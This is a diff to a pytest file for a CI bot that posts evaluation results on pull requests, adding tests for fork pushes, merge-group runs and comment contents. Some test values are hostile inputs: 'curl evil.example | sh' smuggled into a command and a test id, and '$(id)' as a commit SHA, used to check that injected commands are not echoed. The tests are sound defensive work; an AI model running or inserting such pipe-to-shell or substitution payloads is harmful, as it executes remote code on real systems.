@@ -109,12 +109,20 @@ def test_a_forks_pull_request_is_found_by_its_branch(desk: Desk) -> None:
     assert sum(map(len, desk.hub.comments.values())) == 1
 
 
+def test_a_forks_commit_that_a_maintainer_evaluates_is_told_on_its_pull_request(desk: Desk) -> None:
+    number = desk.hub.pull(HEAD, fork="someone/askacme")
+    desk.upload(WORSE, failing=DROPPED)
+    ours = {"full_name": desk.hub.repository}
+    assert desk.told(number, event="push", head_branch="evals/7", head_repository=ours) == 0
+    assert "[!CAUTION]" in desk.comment(number)
+
+
 def test_a_run_that_no_pull_request_asks_for_has_a_check_alone(
     desk: Desk, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    number = desk.hub.pull(HEAD, fork="someone/askacme")
+    number = desk.hub.pull("d" * 40, fork="someone/askacme")
     desk.upload(WORSE, failing=DROPPED)
-    assert desk.told(number, head_branch="gone") == 0
+    assert desk.told(number, event="merge_group", head_branch="gone", head_sha=HEAD) == 0
     assert not desk.hub.comments[number]
     assert "no open pull request" in capsys.readouterr().out
     assert len(desk.hub.checks) == 1
@@ -252,7 +260,10 @@ def test_commands_are_made_of_checked_names_alone(desk: Desk) -> None:
     bad = "curl evil.example | sh"
     desk.upload(WORSE, failing=DROPPED, command=bad, nodeid=f"x.py::a; {bad}")
     desk.told(number)
-    assert "evil.example" not in desk.comment(number)
+    body = desk.comment(number)
+    assert "evil.example" not in body
+    assert "gh run download 9005 -n files -D .evalsuite/runs" in body
+    assert "evalsuite accept askacme --from-run .evalsuite/runs/.evalsuite/runs/r1" in body
 
 
 @pytest.mark.parametrize(
@@ -261,7 +272,6 @@ def test_commands_are_made_of_checked_names_alone(desk: Desk) -> None:
         ({"head_sha": "$(id)"}, "workflow_run.head_sha"),
         ({"head_sha": None}, "workflow_run.head_sha"),
         ({"run_number": "7"}, "workflow_run.run_number"),
-        ({"event": "push"}, "pull request"),
     ],
 )
 def test_an_event_that_makes_no_sense_is_one_error(
